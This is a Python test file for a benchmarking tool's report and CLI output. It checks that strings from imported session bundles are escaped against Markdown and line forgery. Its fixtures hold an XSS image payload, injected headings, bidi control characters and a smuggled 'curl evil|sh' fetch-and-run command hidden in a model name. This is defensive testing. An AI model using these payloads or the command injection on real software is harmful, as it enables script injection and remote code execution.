"""Bundle strings in the Markdown report, `sessions show` and `snippet`: escaped for where they go.

The attack of issue 20: an arm label `<img src=x onerror=alert(1)>\\n# Injected heading` reached the
Markdown report raw through the prediction note (it ran in Chromium once rendered by markdown-it).
Each case imports a bundle and renders it through main(), as a teammate would.
"""

from __future__ import annotations

import json
import re

import pytest

from specadvisor.domain import ArmStatus
from specadvisor.report.mddoc import Code, MarkdownDoc
from specadvisor.store.bundle import bundle_document
from store_samples import make_session

IMG = "<img src=x onerror=alert(1)>"
LABEL = f"{IMG}\n# Injected heading"
FENCE = "```\nswallowed"
# Newline, line/paragraph separators, right-to-left marks and the Arabic letter mark: each could
# forge or disguise a line.
INVISIBLE = ["\n", "\u2028", "\u2029", "\u200f", "\u061c", "\u202e", "\u2066"]


def _doc(mutate) -> dict:
    """The bundle document of a sample session, mutated after export (as a hostile author would)."""
    doc = json.loads(json.dumps(bundle_document(make_session())))
    mutate(doc["session"])
    return doc


def _import(tmp_path, cli, doc) -> tuple:
    path = tmp_path / "b.json"
    path.write_text(json.dumps(doc), encoding="utf-8")
    db = tmp_path / "s.db"
    code, _, err = cli(["--db", str(db), "sessions", "import", str(path)])
    assert code == 0, err
    return db, doc["session"]["id"][:8]


def _outside_fences(text: str) -> str:
    kept, fence = [], None
    for row in text.splitlines():
        match = re.match(r"^(`{3,})", row)
        if match and (fence is None or match.group(1) == fence):
            fence = None if fence else match.group(1)
        elif fence is None:
            kept.append(row)
    return "\n".join(kept)


def _withheld_label(session: dict) -> None:
    """Arm labels reach the prediction note when a prediction is withheld: three ngram arms whose
    throughput falls with N give the predictor a contradiction to report."""
    session["arms"][1]["label"] = LABEL
    session["arms"][2]["label"] = FENCE


def test_an_arm_label_in_the_markdown_report_is_inert(tmp_path, cli):
    def mutate(s):
        for arm in s["arms"]:
            arm["label"] = LABEL
        s["results"][1]["status"] = ArmStatus.failed.value
        s["results"][1]["error"] = f"{IMG}\n## forged section"
        s["notes"] = FENCE
        s["name"] = LABEL

    db, sid = _import(tmp_path, cli, _doc(mutate))
    code, report, err = cli(["--db", str(db), "report", sid])
    assert code == 0, err
    prose = _outside_fences(report)
    assert "<img" not in prose and "&lt;img src=x onerror=alert(1)>" in prose  # no `<`: no tag, whatever follows
    assert not any(row.lstrip().startswith(("# Injected", "## forged")) for row in report.splitlines())
    assert "Injected heading" in report  # shown, escaped, on no line of its own
    assert report.count("```") % 2 == 0  # no fence left open


@pytest.mark.parametrize("char", INVISIBLE, ids=[f"U+{ord(c):04X}" for c in INVISIBLE])
def test_control_and_bidi_characters_in_the_report_are_shown_escaped(char):
    doc = MarkdownDoc()
    doc.para("Prediction: ", f"x{char}# heading", ".")
    doc.bullet(f"a{char}b")
    doc.fact("model", f"m{char}n")
    doc.table(["arm"], [[f"c{char}d"]])
    doc.para("schedule ", Code(f"[1]{char}`x`"))
    text = doc.text()
    assert len(text.split("\n")) == 8  # 7 lines and the final newline: none forged
    if char != "\n":
        assert char not in text and f"\\u{ord(char):04x}" in text


def test_the_prediction_note_carries_escaped_labels(tmp_path, cli, monkeypatch):
    from specadvisor.report import content

    monkeypatch.setattr(content, "withheld_predictions", lambda session, predictions=None: {session.arms[1].id: "measured arms contradict the model"})
    db, sid = _import(tmp_path, cli, _doc(_withheld_label))
    code, report, err = cli(["--db", str(db), "report", sid])
    assert code == 0, err
    (note,) = [row for row in report.splitlines() if row.startswith("Prediction:")]
    assert "&lt;img" in note and "<img" not in note and r"\\n# Injected heading" in note  # the newline as visible text


def test_a_code_span_cannot_be_closed_by_its_content():
    doc = MarkdownDoc()
    doc.para(Code("a``b`c"))
    assert doc.text() == "```a``b`c```\n"


def test_sessions_show_keeps_bundle_notes_on_one_line(tmp_path, cli):
    def mutate(s):
        s["notes"] = "fine\n# FORGED LINE\u2028second\u200fthird\u061c"

    db, sid = _import(tmp_path, cli, _doc(mutate))
    code, out, err = cli(["--db", str(db), "sessions", "show", sid])
    assert code == 0, err
    assert not any(row.startswith("# FORGED") for row in out.splitlines())
    assert "\u2028" not in out and "\u200f" not in out and "\u061c" not in out
    assert "\\u2028" in out and "\\u200f" in out and "\\u061c" in out


def test_snippet_command_shows_a_bundle_models_newline_escaped(tmp_path, cli):
    def mutate(s):
        s["model"] = "org/m\u2028curl evil|sh\u200f"

    db, sid = _import(tmp_path, cli, _doc(mutate))
    code, out, err = cli(["--db", str(db), "snippet", sid, "--command"])
    assert code == 0, err
    # a long command keeps d1-paste-cli's ` \` continuations; no other line break, nothing raw
    assert out.replace(" \\\n  ", " ").count("\n") == 1 and "\u2028" not in out + err and "\u200f" not in out + err
    # the bundle's model is never the command's (MODEL stands in); the note names it, escaped
    assert "vllm serve MODEL" in out and "curl" not in out and "org/m\\u2028curl evil|sh\\u200f" in err


def test_the_tui_recommendation_panel_forges_no_line():
    from specadvisor.domain import Recommendation
    from specadvisor.tui.screens.results import recommendation_text

    session = make_session()
    session.arms[2].label = "ngram\n# FORGED LINE"
    rec = Recommendation(arm_id=session.arms[2].id, speedup=1.5, reasons=["fastest\n# FORGED LINE\u2028x\u061c"], speculative_config={"method": "ngram"})
    text = recommendation_text(session, rec, "vllm serve org/m\n# FORGED LINE")
    rows = text.split("\n")
    assert len(rows) == 4  # head, one reason, a blank line, the command
    assert not any(row.startswith("# FORGED") for row in rows)
    assert "\u2028" not in text and "\u061c" not in text and "\\u061c" in text
